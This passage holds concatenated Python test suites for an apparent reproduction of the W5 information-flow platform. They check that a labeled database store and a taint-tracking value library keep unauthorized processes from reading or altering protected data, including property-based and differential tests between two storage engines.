        store.insert(tainted, "t", {"v": 1})
        snoop = kernel.spawn_trusted("snoop")
        assert store.count(snoop, "t") == 0

    def test_write_protected_row(self, store, kernel, provider):
        w = kernel.create_tag(provider, kind="integrity", purpose="bob-w")
        store.create_table(provider, "t")
        owner = kernel.spawn_trusted("owner", caps=CapabilitySet([plus(w)]))
        store.insert(owner, "t", {"v": "orig"}, ilabel=Label([w]))
        vandal = kernel.spawn_trusted("vandal")
        with pytest.raises(IntegrityViolation):
            store.update(vandal, "t", changes={"v": "defaced"})
        with pytest.raises(IntegrityViolation):
            store.delete(vandal, "t")
        assert store.select(provider, "t")[0]["v"] == "orig"

    def test_delegated_writer_updates_protected_row(self, store, kernel, provider):
        w = kernel.create_tag(provider, kind="integrity", purpose="bob-w")
        store.create_table(provider, "t")
        owner = kernel.spawn_trusted("owner", caps=CapabilitySet([plus(w)]))
        store.insert(owner, "t", {"v": "orig"}, ilabel=Label([w]))
        editor = kernel.spawn_trusted("editor", caps=CapabilitySet([plus(w)]))
        assert store.update(editor, "t", changes={"v": "edited"}) == 1


class TestDbView:
    def test_view_roundtrip(self, store, kernel, provider):
        view = DbView(store, provider)
        view.create_table("t", indexes=["k"])
        rid = view.insert("t", {"k": "a", "v": 1})
        assert view.get("t", rid)["v"] == 1
        assert view.count("t", where={"k": "a"}) == 1
        view.update("t", where={"k": "a"}, changes={"v": 2})
        assert view.select("t")[0]["v"] == 2
        view.delete("t", where={"k": "a"})
        assert view.count("t") == 0
