"""Property tests: the store's covert-channel-free query semantics.

The central invariant (DESIGN.md §4, C10): for any query, the result a
process sees over a table equals the result it would see over the
table with all rows it cannot read *physically removed*.  If that holds
for select/count/update/delete, no query can be used as an oracle on
invisible data.
"""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.db import LabeledStore
from repro.kernel import Kernel
from repro.labels import Label


def build_world(rows):
    """rows: list of (secret?, value) -> two stores: full and stripped."""
    kernel = Kernel()
    provider = kernel.spawn_trusted("provider")
    t = kernel.create_tag(provider, purpose="secret")
    tainted = kernel.spawn_trusted("writer", slabel=Label([t]))
    snoop = kernel.spawn_trusted("snoop")

    full = LabeledStore(kernel)
    full.create_table(provider, "t", indexes=["k"])
    stripped = LabeledStore(kernel)
    stripped.create_table(provider, "t", indexes=["k"])

    for secret, value in rows:
        payload = {"k": value % 3, "v": value}
        if secret:
            full.insert(tainted, "t", payload)
        else:
            full.insert(provider, "t", payload)
            stripped.insert(provider, "t", payload)
    return snoop, full, stripped


rows_strategy = st.lists(
    st.tuples(st.booleans(), st.integers(0, 20)), max_size=25)


class TestVisibilityEquivalence:
    @settings(max_examples=80, deadline=None)
    @given(rows_strategy)
    def test_select_equivalent_to_stripped_table(self, rows):
        snoop, full, stripped = build_world(rows)
        got = sorted(r["v"] for r in full.select(snoop, "t"))
        want = sorted(r["v"] for r in stripped.select(snoop, "t"))
        assert got == want

    @settings(max_examples=80, deadline=None)
    @given(rows_strategy, st.integers(0, 2))
    def test_indexed_select_equivalent(self, rows, key):
        snoop, full, stripped = build_world(rows)
        got = sorted(r["v"] for r in full.select(snoop, "t", where={"k": key}))
        want = sorted(r["v"] for r in stripped.select(snoop, "t",
                                                      where={"k": key}))
        assert got == want

    @settings(max_examples=80, deadline=None)
    @given(rows_strategy)
    def test_count_equivalent(self, rows):
        snoop, full, stripped = build_world(rows)
        assert full.count(snoop, "t") == stripped.count(snoop, "t")

    @settings(max_examples=50, deadline=None)
    @given(rows_strategy)
    def test_update_touches_same_rows(self, rows):
        snoop, full, stripped = build_world(rows)
        n_full = full.update(snoop, "t", predicate=lambda r: r["v"] > 5,
                             changes={"touched": True})
        n_stripped = stripped.update(snoop, "t",
                                     predicate=lambda r: r["v"] > 5,
                                     changes={"touched": True})
        assert n_full == n_stripped

    @settings(max_examples=50, deadline=None)
    @given(rows_strategy)
    def test_delete_touches_same_rows(self, rows):
        snoop, full, stripped = build_world(rows)
        assert (full.delete(snoop, "t", predicate=lambda r: r["v"] % 2 == 0)
                == stripped.delete(snoop, "t",
                                   predicate=lambda r: r["v"] % 2 == 0))
