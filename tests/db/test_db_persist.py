"""Tests for store persistence (provider restart)."""

import json

import pytest

from repro.db import LabeledStore, restore_store, snapshot_store
from repro.kernel import Kernel
from repro.labels import Label, TagRegistry


def build_world():
    kernel = Kernel(namespace="prod")
    provider = kernel.spawn_trusted("provider")
    t = kernel.create_tag(provider, purpose="bob")
    store = LabeledStore(kernel)
    store.create_table(provider, "posts", indexes=["author"],
                       pad_scan_to=100)
    store.insert(provider, "posts", {"author": "pub", "body": "open"})
    writer = kernel.spawn_trusted("w", slabel=Label([t]))
    store.insert(writer, "posts", {"author": "bob", "body": "private"})
    return kernel, store, t


def restart(kernel, store):
    registry_state = json.loads(json.dumps(kernel.tags.export_state()))
    db_state = json.loads(json.dumps(snapshot_store(store)))
    new_kernel = Kernel(namespace="prod")
    new_kernel.tags = TagRegistry.import_state(registry_state)
    return new_kernel, restore_store(new_kernel, db_state)


class TestStorePersistence:
    def test_rows_roundtrip(self):
        kernel, store, t = build_world()
        nk, ns = restart(kernel, store)
        provider = nk.spawn_trusted("p")
        assert ns.count(provider, "posts", where={"author": "pub"}) == 1

    def test_label_filtering_survives(self):
        kernel, store, t = build_world()
        nk, ns = restart(kernel, store)
        snoop = nk.spawn_trusted("snoop")
        rows = ns.select(snoop, "posts")
        assert [r["author"] for r in rows] == ["pub"]
        cleared = nk.spawn_trusted("c", slabel=Label(
            [nk.tags.lookup(t.tag_id)]))
        assert ns.count(cleared, "posts") == 2

    def test_indexes_rebuilt(self):
        kernel, store, t = build_world()
        nk, ns = restart(kernel, store)
        cleared = nk.spawn_trusted("c", slabel=Label(
            [nk.tags.lookup(t.tag_id)]))
        rows = ns.select(cleared, "posts", where={"author": "bob"})
        assert len(rows) == 1 and rows[0]["body"] == "private"

    def test_pad_scan_to_survives(self):
        kernel, store, t = build_world()
        nk, ns = restart(kernel, store)
        assert ns.table("posts").pad_scan_to == 100

    def test_row_ids_do_not_collide_after_restart(self):
        kernel, store, t = build_world()
        nk, ns = restart(kernel, store)
        provider = nk.spawn_trusted("p")
        new_id = ns.insert(provider, "posts", {"author": "new"})
        cleared = nk.spawn_trusted("c", slabel=Label(
            [nk.tags.lookup(t.tag_id)]))
        assert ns.count(cleared, "posts") == 3
        ids = {r["author"] for r in ns.select(cleared, "posts")}
        assert ids == {"pub", "bob", "new"}

    def test_versions_roundtrip(self):
        kernel, store, t = build_world()
        provider = kernel.spawn_trusted("p0")
        store.update(provider, "posts", where={"author": "pub"},
                     changes={"body": "edited"})
        nk, ns = restart(kernel, store)
        p = nk.spawn_trusted("p")
        row = ns.select(p, "posts", where={"author": "pub"})[0]
        assert row["body"] == "edited"
