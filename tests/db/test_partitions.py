"""Unit tests for the label-partitioned engine and its satellites:
smallest-bucket index selection, snapshot-free count, the hoisted
flat-update path, and index-maintenance skipping."""

import copy

import pytest

from repro.db import LabeledStore, restore_store
from repro.platform import ProviderConfig
from repro.db.store import Row
from repro.kernel import Kernel
from repro.labels import CapabilitySet, Label, minus
from repro.resources import ResourceManager


def world(partitioned=True):
    rm = ResourceManager()
    kernel = Kernel(resources=rm)
    store = LabeledStore(kernel, partitioned=partitioned)
    provider = kernel.spawn_trusted("provider")
    tag = kernel.create_tag(provider, purpose="secret")
    tainted = kernel.spawn_trusted("tainted", slabel=Label([tag]))
    clean = kernel.spawn_trusted("clean")
    return rm, kernel, store, provider, tainted, clean


class TestBestIndexSelection:
    def test_smallest_bucket_wins(self):
        _, _, store, provider, _, _ = world()
        store.create_table(provider, "t", indexes=("a", "b"))
        for i in range(10):
            store.insert(provider, "t", {"a": "hot", "b": i})
        store.insert(provider, "t", {"a": "hot", "b": 99})
        store.insert(provider, "t", {"a": "cold", "b": 99})
        table = store.table("t")
        # a=hot bucket holds 11 rows, b=99 holds 2 → b must be chosen
        assert LabeledStore._best_index(
            table, {"a": "hot", "b": 99}) == ("b", 99)
        # a missing value → empty bucket (size 0) beats everything
        assert LabeledStore._best_index(
            table, {"a": "nope", "b": 99}) == ("a", "nope")

    def test_scan_charge_follows_smallest_bucket(self):
        for partitioned in (True, False):
            rm, _, store, provider, _, clean = world(partitioned)
            store.create_table(provider, "t", indexes=("a", "b"))
            for i in range(20):
                store.insert(provider, "t", {"a": "x", "b": i % 2})
            before = rm.usage_of(clean).get("db_rows_scanned")
            store.select(clean, "t", where={"b": 0, "a": "x"})
            scanned = rm.usage_of(clean).get("db_rows_scanned") - before
            assert scanned == 10  # b-bucket, not the 20-row a-bucket

    def test_unindexed_where_still_scans_all(self):
        rm, _, store, provider, _, clean = world()
        store.create_table(provider, "t", indexes=())
        for i in range(7):
            store.insert(provider, "t", {"n": i})
        before = rm.usage_of(clean).get("db_rows_scanned")
        assert store.count(clean, "t", where={"n": 3}) == 1
        assert rm.usage_of(clean).get("db_rows_scanned") - before == 7


class _DeepcopySpy:
    """A row value that counts how often it gets deep-copied."""

    copies = 0

    def __deepcopy__(self, memo):
        type(self).copies += 1
        return _DeepcopySpy()


class TestSnapshotFreeCount:
    def test_count_never_copies_rows(self):
        for partitioned in (True, False):
            _, _, store, provider, _, clean = world(partitioned)
            store.create_table(provider, "t")
            store.insert(provider, "t", {"payload": _DeepcopySpy(), "k": 1})
            _DeepcopySpy.copies = 0
            assert store.count(clean, "t") == 1
            assert _DeepcopySpy.copies == 0, "count materialized a snapshot"
            store.select(clean, "t")
            assert _DeepcopySpy.copies == 1, "select must still copy"

    def test_count_matches_select_and_charges(self):
        rm, _, store, provider, tainted, clean = world()
        store.create_table(provider, "t")
        for i in range(6):
            store.insert(provider, "t", {"n": i})
        for i in range(4):
            store.insert(tainted, "t", {"n": i})
        n = store.count(clean, "t", predicate=lambda v: v["n"] % 2 == 0)
        assert n == len(store.select(clean, "t",
                                     predicate=lambda v: v["n"] % 2 == 0))
        assert n == 3  # invisible rows don't count


class TestUpdateFastPaths:
    def test_flat_changes_hoisted_once(self):
        _, _, store, provider, _, _ = world()
        store.create_table(provider, "t")
        for i in range(5):
            store.insert(provider, "t", {"n": i})
        changes = {"n": 7}
        assert store.update(provider, "t", changes=changes) == 5
        changes["n"] = 0  # caller mutates its dict afterwards
        assert [r["n"] for r in store.select(provider, "t")] == [7] * 5

    def test_nested_changes_still_isolated_per_row(self):
        _, _, store, provider, _, _ = world()
        store.create_table(provider, "t")
        r1 = store.insert(provider, "t", {"n": 0})
        r2 = store.insert(provider, "t", {"n": 1})
        store.update(provider, "t", changes={"tags": ["a"]})
        table = store.table("t")
        table.rows[r1].values["tags"].append("mutated")
        assert table.rows[r2].values["tags"] == ["a"]

    def test_index_maintenance_skipped_for_unindexed_changes(self):
        _, _, store, provider, _, _ = world()
        store.create_table(provider, "t", indexes=("k",))
        for i in range(4):
            store.insert(provider, "t", {"k": i % 2, "n": i})
        table = store.table("t")
        calls = []
        orig_remove, orig_add = table.index_remove, table.index_add
        table.index_remove = lambda row: (calls.append("rm"),
                                          orig_remove(row))[1]
        table.index_add = lambda row: (calls.append("add"),
                                       orig_add(row))[1]
        store.update(provider, "t", changes={"n": 99})
        assert calls == [], "unindexed change paid the index round-trip"
        store.update(provider, "t", where={"k": 0}, changes={"k": 1})
        assert calls.count("rm") == calls.count("add") == 2
        # the moved rows are findable under their new key
        assert store.count(provider, "t", where={"k": 1}) == 4

    def test_flat_verdict_survives_flat_update(self):
        _, _, store, provider, _, _ = world()
        store.create_table(provider, "t")
        rid = store.insert(provider, "t", {"n": 1})
        row = store.table("t").rows[rid]
        row.snapshot()
        assert row._flat is True
        store.update(provider, "t", changes={"n": 2})
        assert row._flat is True  # scalar update cannot un-flatten
        store.update(provider, "t", changes={"n": [1]})
        assert row._flat is False


class TestPartitionStats:
    def test_skip_counters(self):
        _, _, store, provider, tainted, clean = world()
        store.create_table(provider, "t")
        for i in range(5):
            store.insert(provider, "t", {"n": i})
        for i in range(3):
            store.insert(tainted, "t", {"n": i})
        store.select(clean, "t")
        stats = store.stats()
        assert stats["partitioned"] is True
        assert stats["partitions_visible"] == 1
        assert stats["partitions_skipped"] == 1
        assert stats["rows_skipped"] == 3
        assert stats["batched_charges"] >= 2  # invisible still charged

    def test_naive_engine_reports_itself(self):
        _, _, store, _, _, _ = world(partitioned=False)
        assert store.stats()["partitioned"] is False


class TestPartitionPersistence:
    def test_restore_rebuilds_partitions(self):
        _, kernel, store, provider, tainted, clean = world()
        store.create_table(provider, "t", indexes=("k",))
        for i in range(6):
            store.insert((provider, tainted)[i % 2], "t", {"k": i % 3})
        snap = store.snapshot()
        for partitioned in (True, False):
            restored = restore_store(kernel, snap, partitioned=partitioned)
            assert restored.partitioned is partitioned
            table = restored.table("t")
            assert len(table.partitions) == 2
            assert sum(len(p) for p in table.partitions.values()) == 6
            for pkey, rows in table.partitions.items():
                for rid, row in rows.items():
                    assert table.rows[rid] is row
                    assert (row.slabel, row.ilabel) == pkey
            # the restored store answers queries on either engine
            assert restored.count(clean, "t", where={"k": 0}) == 1

    def test_external_row_removal_keeps_partitions_consistent(self):
        """provider.delete_account-style callers pop rows directly and
        call index_remove; partitions must follow."""
        _, _, store, provider, tainted, _ = world()
        store.create_table(provider, "t", indexes=("k",))
        rid = store.insert(tainted, "t", {"k": 1})
        store.insert(provider, "t", {"k": 1})
        table = store.table("t")
        row = table.rows.pop(rid)
        table.index_remove(row)
        assert len(table.partitions) == 1
        assert all(rid not in p for p in table.partitions.values())
        assert all(rid not in ids
                   for bucket in table.indexes["k"].values()
                   for ids in bucket.values())


class TestMetricsObservation:
    def test_data_plane_snapshot(self):
        from repro import W5System
        from repro.core import Metrics
        w5 = W5System(name="m9-metrics")
        m = Metrics(w5.audit()).attach_data_plane(w5.provider)
        snap = m.data_plane_snapshot()
        assert snap["db"]["partitioned"] is True
        assert snap["fs"]["grouped_walk"] is True
        assert Metrics(w5.audit()).data_plane_snapshot() == {}

    def test_engine_flags_thread_through_system(self):
        from repro import W5System
        w5 = W5System(name="m9-naive",
                      config=ProviderConfig(partitioned_store=False))
        assert w5.provider.db.partitioned is False
        assert w5.provider.fs.grouped_walk is False


class TestLimitParity:
    """The naive limit quirk (limit<1 still returns the first match,
    scan charges stop at the limit-th match) must reproduce exactly."""

    @pytest.mark.parametrize("limit", [0, 1, 2, 5])
    def test_limit_results_and_charges_match(self, limit):
        outcomes = []
        for partitioned in (True, False):
            rm, _, store, provider, tainted, clean = world(partitioned)
            store.create_table(provider, "t")
            for i in range(10):
                store.insert((provider, tainted)[i % 3 == 0], "t", {"n": i})
            rows = store.select(clean, "t", limit=limit)
            outcomes.append(
                (rows, rm.usage_of(clean).get("db_rows_scanned")))
        assert outcomes[0] == outcomes[1]
