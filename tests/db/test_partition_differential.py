"""Differential property test: the partitioned engine changes nothing.

Two stores — one label-partitioned (the default), one naive per-row
(the oracle) — are driven through the *same* randomly generated query
history by subjects with graded privilege.  Every operation must agree:
same results, same exception type and message, same audit stream, same
resource-charge totals.  Hypothesis shrinks any divergence to a minimal
witness.

Known, accepted divergence (not exercised here): under a finite
``db_rows_scanned`` quota the partitioned engine charges per partition,
so on quota exhaustion the *partially recorded* usage can differ from
the naive engine's row-at-a-time accounting; the exception type is
identical either way.  Quota-free runs — this test — are byte-equal.
"""

import re

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.db import LabeledStore
from repro.db.errors import DbError
from repro.errors import W5Error
from repro.kernel import Kernel
from repro.labels import CapabilitySet, Label, minus, plus
from repro.resources import ResourceManager

#: Deterministic predicate choices (index into this tuple travels in
#: the op stream, so both engines run the identical callable).
PREDICATES = (None,
              lambda vals: vals.get("n", 0) % 2 == 0,
              lambda vals: vals.get("n", 0) > 5)


def build_world(partitioned):
    """A kernel + store + subjects spanning the interesting verdicts."""
    resources = ResourceManager()
    kernel = Kernel(namespace=f"part-{partitioned}", resources=resources)
    store = LabeledStore(kernel, partitioned=partitioned)
    root = kernel.spawn_trusted("root")
    t1 = kernel.create_tag(root, purpose="s1")
    t2 = kernel.create_tag(root, purpose="s2")
    labels = (Label.EMPTY, Label([t1]), Label([t2]), Label([t1, t2]))
    procs = [
        kernel.spawn_trusted("clean"),                       # public only
        kernel.spawn_trusted("taint1", slabel=Label([t1])),  # sees t1
        kernel.spawn_trusted("taint2", slabel=Label([t2])),
        kernel.spawn_trusted("both", slabel=Label([t1, t2])),
        # tainted but holding t1-: may write down (declassifier-ish)
        kernel.spawn_trusted("declass", slabel=Label([t1]),
                             caps=CapabilitySet([minus(t1)])),
        # clean but owns t2: owned-tag read extension, no taint
        kernel.spawn_trusted("owner2",
                             caps=CapabilitySet([plus(t2), minus(t2)])),
    ]
    store.create_table(procs[0], "rows", indexes=("k",))
    store.create_table(procs[0], "padded", indexes=(), pad_scan_to=25)
    return kernel, store, procs, labels


def mask(text):
    """Row/tag ids differ only in formatting noise, never here — but
    keep the kernel-test convention of comparing shapes."""
    return re.sub(r"#?\d+", "#", text)


def apply_op(store, procs, labels, op):
    kind = op[0]
    p = procs[op[1] % len(procs)]
    try:
        if kind == "insert":
            _, _, ti, k, n, li = op
            table = "rows" if ti else "padded"
            rid = store.insert(p, table, {"k": k % 4, "n": n},
                               slabel=labels[li % len(labels)])
            return ("inserted", rid)
        if kind == "select":
            _, _, ti, wk, use_where, pi, limit = op
            table = "rows" if ti else "padded"
            where = {"k": wk % 4} if use_where else None
            rows = store.select(p, table, where=where,
                                predicate=PREDICATES[pi % len(PREDICATES)],
                                limit=limit)
            return ("rows", rows)
        if kind == "count":
            _, _, ti, wk, use_where, pi = op
            table = "rows" if ti else "padded"
            where = {"k": wk % 4} if use_where else None
            return ("count", store.count(
                p, table, where=where,
                predicate=PREDICATES[pi % len(PREDICATES)]))
        if kind == "update":
            _, _, ti, wk, use_where, n, nested = op
            table = "rows" if ti else "padded"
            where = {"k": wk % 4} if use_where else None
            changes = {"n": n, "extra": [n]} if nested else {"n": n}
            return ("updated", store.update(p, table, where=where,
                                            changes=changes))
        if kind == "delete":
            _, _, ti, wk = op
            table = "rows" if ti else "padded"
            return ("deleted", store.delete(p, table, where={"k": wk % 4}))
        if kind == "get":
            _, _, ti, rid = op
            table = "rows" if ti else "padded"
            return ("got", store.get(p, table, rid % 40 + 1))
        return ("noop",)
    except (W5Error, DbError) as e:
        return ("error", type(e).__name__, mask(str(e)))


def ops():
    pi = st.integers(0, 5)
    insert = st.tuples(st.just("insert"), pi, st.booleans(),
                       st.integers(0, 3), st.integers(0, 9),
                       st.integers(0, 3))
    select = st.tuples(st.just("select"), pi, st.booleans(),
                       st.integers(0, 3), st.booleans(), st.integers(0, 2),
                       st.none() | st.integers(0, 5))
    count = st.tuples(st.just("count"), pi, st.booleans(),
                      st.integers(0, 3), st.booleans(), st.integers(0, 2))
    update = st.tuples(st.just("update"), pi, st.booleans(),
                       st.integers(0, 3), st.booleans(), st.integers(0, 9),
                       st.booleans())
    delete = st.tuples(st.just("delete"), pi, st.booleans(),
                       st.integers(0, 3))
    get = st.tuples(st.just("get"), pi, st.booleans(), st.integers(0, 39))
    return st.lists(st.one_of(insert, select, count, update, delete, get),
                    max_size=60)


def final_state(store):
    out = {}
    for name in store.tables():
        table = store.table(name)
        out[name] = {rid: (row.values, row.slabel, row.ilabel, row.version)
                     for rid, row in table.rows.items()}
    return out


class TestPartitionedStoreIsEquivalent:
    @settings(max_examples=100, deadline=None)
    @given(ops())
    def test_identical_histories_identical_outcomes(self, seed_ops):
        kp, sp, procs_p, labels_p = build_world(True)
        kn, sn, procs_n, labels_n = build_world(False)
        assert sp.partitioned and not sn.partitioned

        for op in seed_ops:
            out_p = apply_op(sp, procs_p, labels_p, op)
            out_n = apply_op(sn, procs_n, labels_n, op)
            assert out_p == out_n, f"divergence on {op}"

        # final table contents agree (values, labels, versions)
        assert final_state(sp) == final_state(sn)

        # audit streams agree record for record
        audit_p = [(e.category, e.allowed, e.subject, e.detail)
                   for e in kp.audit]
        audit_n = [(e.category, e.allowed, e.subject, e.detail)
                   for e in kn.audit]
        assert audit_p == audit_n

        # resource-charge totals agree for every db kind and subject
        for kind in ("db_queries", "db_rows", "db_rows_scanned"):
            for p, n in zip(procs_p, procs_n):
                assert kp.resources.usage_of(p).get(kind) == \
                    kn.resources.usage_of(n).get(kind), \
                    f"{kind} charges diverge for {p.name}"

    def test_partition_bookkeeping_matches_rows(self):
        """After a random-ish workload the partition dicts are exactly
        a re-grouping of ``table.rows`` (no stale or lost members)."""
        kernel, sp, procs, labels = build_world(True)
        # sees everything and may write down into any partition
        admin = kernel.spawn_trusted(
            "admin", slabel=labels[3],
            caps=CapabilitySet([minus(t) for t in labels[3]]))
        for i in range(40):
            sp.insert(procs[i % 4], "rows", {"k": i % 4, "n": i},
                      slabel=labels[i % 4])
        sp.update(admin, "rows", where={"k": 1}, changes={"n": 99})
        sp.delete(admin, "rows", where={"k": 2})
        table = sp.table("rows")
        regrouped = {}
        for row in table.rows.values():
            regrouped.setdefault((row.slabel, row.ilabel), {})[
                row.row_id] = row
        assert table.partitions == regrouped
        for col, idx in table.indexes.items():
            for value, bucket in idx.items():
                for pkey, ids in bucket.items():
                    assert ids, "empty id set left behind"
                    for rid in ids:
                        row = table.rows[rid]
                        assert row.values[col] == value
                        assert (row.slabel, row.ilabel) == pkey
