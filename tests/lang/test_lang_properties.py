"""Property tests: the language-level taint laws.

The conservation law, value flavor: however a value is computed from
labeled inputs with the provided combinators, its label dominates the
join of every input actually used — taint can be added, never lost,
except through ``declassify`` with explicit authority.
"""

import operator

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.labels import CapabilitySet, Label, TagRegistry, minus
from repro.lang import Labeled, declassify, lift, lmap, lselect

_REG = TagRegistry()
_TAGS = [_REG.create(purpose=f"t{i}") for i in range(6)]


def labeled_ints():
    return st.builds(
        lambda v, tags: lift(v, Label(tags)),
        st.integers(-50, 50),
        st.sets(st.sampled_from(_TAGS), max_size=4))


OPS = [operator.add, operator.sub, operator.mul]


class TestTaintLaws:
    @settings(max_examples=150)
    @given(labeled_ints(), labeled_ints(), st.sampled_from(OPS))
    def test_binary_ops_dominate_inputs(self, a, b, op):
        result = op(a, b)
        assert a.label <= result.label
        assert b.label <= result.label
        assert result.label == a.label | b.label

    @settings(max_examples=100)
    @given(st.lists(labeled_ints(), min_size=1, max_size=5))
    def test_lmap_dominates_all_inputs(self, values):
        result = lmap(lambda *xs: sum(xs), *values)
        for v in values:
            assert v.label <= result.label

    @settings(max_examples=100)
    @given(labeled_ints(), labeled_ints(), labeled_ints())
    def test_lselect_dominates_condition_and_chosen(self, c, x, y):
        cond = lmap(lambda v: v > 0, c)
        result = lselect(cond, x, y)
        assert cond.label <= result.label
        chosen = x if c.peek() > 0 else y
        assert chosen.label <= result.label

    @settings(max_examples=100)
    @given(labeled_ints(), st.sets(st.sampled_from(_TAGS), max_size=3))
    def test_declassify_sheds_exactly_whats_authorized(self, v, shed):
        shed_label = Label(shed)
        authority = CapabilitySet([minus(t) for t in shed])
        out = declassify(v, shed_label, authority)
        assert out.label == v.label - shed_label
        assert out.peek() == v.peek()

    @settings(max_examples=100)
    @given(labeled_ints(), labeled_ints())
    def test_chains_never_lose_taint(self, a, b):
        """A pipeline of combinators preserves the inputs' joint taint."""
        step1 = a + b
        step2 = lmap(lambda x: x * 2, step1)
        step3 = lselect(lmap(lambda x: x % 2 == 0, step2),
                        step2, step1)
        assert (a.label | b.label) <= step3.label
