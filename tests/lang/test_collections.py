"""Unit tests for labeled collections + the granularity property."""

import pytest

from repro.labels import CapabilitySet, Label, TagRegistry, minus
from repro.lang import Labeled, LabeledList, lift


@pytest.fixture()
def world():
    reg = TagRegistry()
    t_bob = reg.create(purpose="bob")
    t_amy = reg.create(purpose="amy")
    t_eve = reg.create(purpose="eve")
    feed = LabeledList()
    feed.append(lift({"author": "bob", "title": "b1"}, Label([t_bob])))
    feed.append(lift({"author": "amy", "title": "a1"}, Label([t_amy])))
    feed.append(lift({"author": "eve", "title": "e1"}, Label([t_eve])))
    feed.append({"author": "public", "title": "p1"})
    return feed, t_bob, t_amy, t_eve


class TestLabeledList:
    def test_append_and_len(self, world):
        feed, *_ = world
        assert len(feed) == 4

    def test_elements_keep_labels(self, world):
        feed, t_bob, *_ = world
        assert t_bob in feed[0].label

    def test_map_preserves_per_element_labels(self, world):
        feed, t_bob, t_amy, t_eve = world
        titles = feed.map(lambda item: item["title"])
        assert titles[0].peek() == "b1"
        assert t_bob in titles[0].label
        assert titles[3].label == Label.EMPTY

    def test_sort_by(self, world):
        feed, *_ = world
        by_title = feed.sort_by(lambda item: item["title"])
        assert [x.peek()["title"] for x in by_title] == \
            ["a1", "b1", "e1", "p1"]

    def test_extend(self):
        ll = LabeledList([1, 2])
        ll.extend([3])
        assert len(ll) == 3


class TestGranularity:
    """The A2 property: partial export instead of all-or-nothing."""

    def test_export_for_viewer_with_partial_authority(self, world):
        feed, t_bob, t_amy, t_eve = world
        # the viewer may see bob's and amy's items, not eve's
        authority = CapabilitySet([minus(t_bob), minus(t_amy)])
        delivered, withheld = feed.export_for(authority)
        authors = {item["author"] for item in delivered}
        assert authors == {"bob", "amy", "public"}
        assert withheld == 1

    def test_export_for_anonymous(self, world):
        feed, *_ = world
        delivered, withheld = feed.export_for(CapabilitySet.EMPTY)
        assert [i["author"] for i in delivered] == ["public"]
        assert withheld == 3

    def test_export_for_omniscient(self, world):
        feed, t_bob, t_amy, t_eve = world
        authority = CapabilitySet(
            [minus(t_bob), minus(t_amy), minus(t_eve)])
        delivered, withheld = feed.export_for(authority)
        assert len(delivered) == 4 and withheld == 0

    def test_process_level_equivalent_is_all_or_nothing(self, world):
        """The contrast A2 measures: joining all labels (what a
        process-level response would carry) fails for the same viewer
        who got 3/4 items at value granularity."""
        from repro.labels import exportable_tags
        from repro.lang import ljoin
        feed, t_bob, t_amy, t_eve = world
        authority = CapabilitySet([minus(t_bob), minus(t_amy)])
        combined = ljoin(iter(feed))
        assert not exportable_tags(combined, authority).is_empty()
