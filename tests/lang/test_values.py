"""Unit tests for labeled values and taint propagation."""

import pytest

from repro.labels import (CapabilitySet, Label, SecrecyViolation,
                          TagRegistry, minus)
from repro.lang import (ImplicitFlowError, Labeled, declassify, export,
                        lift, ljoin, lmap, lselect)


@pytest.fixture()
def reg():
    return TagRegistry()


@pytest.fixture()
def t(reg):
    return reg.create(purpose="bob")


@pytest.fixture()
def u(reg):
    return reg.create(purpose="amy")


class TestConstruction:
    def test_lift_raw(self):
        v = lift(42)
        assert v.peek() == 42
        assert v.label == Label.EMPTY

    def test_lift_with_label(self, t):
        v = lift("secret", Label([t]))
        assert t in v.label

    def test_lift_idempotent_joins(self, t, u):
        v = lift(lift("x", Label([t])), Label([u]))
        assert v.label == Label([t, u])


class TestTaintPropagation:
    def test_arithmetic_joins_labels(self, t, u):
        a = lift(2, Label([t]))
        b = lift(3, Label([u]))
        c = a + b
        assert c.peek() == 5
        assert c.label == Label([t, u])

    def test_mixing_with_raw_preserves_label(self, t):
        a = lift(10, Label([t]))
        assert (a - 4).peek() == 6
        assert (a - 4).label == Label([t])
        assert (1 + a).peek() == 11

    def test_all_operators(self, t):
        a = lift(6, Label([t]))
        assert (a * 2).peek() == 12
        assert (a / 2).peek() == 3
        assert (a == 6).peek() is True
        assert (a != 6).peek() is False
        assert (a < 10).peek() is True
        assert (a <= 6).peek() is True
        assert (a > 10).peek() is False
        assert (a >= 7).peek() is False

    def test_comparison_results_are_labeled(self, t):
        a = lift(6, Label([t]))
        assert t in (a > 3).label

    def test_lmap_joins_inputs(self, t, u):
        out = lmap(lambda x, y, z: x + y + z,
                   lift(1, Label([t])), lift(2, Label([u])), 3)
        assert out.peek() == 6
        assert out.label == Label([t, u])

    def test_ljoin(self, t, u):
        assert ljoin([lift(1, Label([t])), 5,
                      lift(2, Label([u]))]) == Label([t, u])


class TestImplicitFlows:
    def test_bool_raises(self, t):
        flag = lift(True, Label([t]))
        with pytest.raises(ImplicitFlowError):
            if flag:
                pass

    def test_hash_raises(self, t):
        with pytest.raises(ImplicitFlowError):
            hash(lift(1, Label([t])))

    def test_lselect_tracks_condition(self, t):
        flag = lift(True, Label([t]))
        out = lselect(flag, "yes", "no")
        assert out.peek() == "yes"
        assert t in out.label  # the condition's taint rode along

    def test_lselect_joins_branch_label(self, t, u):
        flag = lift(False, Label([t]))
        out = lselect(flag, "yes", lift("no", Label([u])))
        assert out.peek() == "no"
        assert out.label == Label([t, u])

    def test_lselect_requires_labeled_cond(self):
        with pytest.raises(TypeError):
            lselect(True, 1, 2)  # type: ignore[arg-type]


class TestExportAndDeclassify:
    def test_export_clean_value(self):
        assert export(lift(7), CapabilitySet.EMPTY) == 7

    def test_export_with_authority(self, t):
        v = lift("secret", Label([t]))
        assert export(v, CapabilitySet([minus(t)])) == "secret"

    def test_export_without_authority(self, t):
        v = lift("secret", Label([t]))
        with pytest.raises(SecrecyViolation):
            export(v, CapabilitySet.EMPTY)

    def test_declassify_sheds_named_tags_only(self, t, u):
        v = lift("x", Label([t, u]))
        out = declassify(v, Label([t]), CapabilitySet([minus(t)]))
        assert out.label == Label([u])

    def test_declassify_needs_minus(self, t):
        v = lift("x", Label([t]))
        with pytest.raises(SecrecyViolation):
            declassify(v, Label([t]), CapabilitySet.EMPTY)

    def test_derived_secret_is_still_guarded(self, t):
        """The no-laundering property end to end: a value computed
        from a secret cannot be exported without authority."""
        secret = lift(41, Label([t]))
        derived = lmap(lambda x: x + 1, secret)
        with pytest.raises(SecrecyViolation):
            export(derived, CapabilitySet.EMPTY)
