"""The syscall facade handed to developer-contributed code.

The paper says developers "must code to the API exposed by the W5
platform" and suggests the Unix syscall API "fits the bill" (§2).
``W5Syscalls`` is that API for this reproduction: a thin, *unprivileged*
